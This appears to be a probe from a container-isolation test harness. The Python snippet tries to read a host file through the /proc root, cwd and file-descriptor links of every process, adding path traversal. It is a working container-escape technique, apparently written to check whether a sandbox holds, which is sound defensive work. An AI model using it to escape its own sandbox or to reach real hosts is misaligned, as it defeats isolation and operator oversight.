# tries: reach the host's files through the root, cwd and descriptors of every process in /proc
# why: init and forgotten helpers may stand outside of the box's root
# outside: host
path, hits, tried = HOST["files"][0], [], 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    doors = [f"/proc/{pid}/root", f"/proc/{pid}/cwd"]
    try:
        doors += [f"/proc/{pid}/fd/{n}" for n in os.listdir(f"/proc/{pid}/fd")]
    except OSError:
        pass
    for door in doors:
        tried += 1
        for way in (door + path, door + "/../../../../../../../.." + path):
            try:
                open(way).read(8)
                hits.append(way)
            except OSError:
                pass
found(f"a way among {tried} magic links", hits[:3])
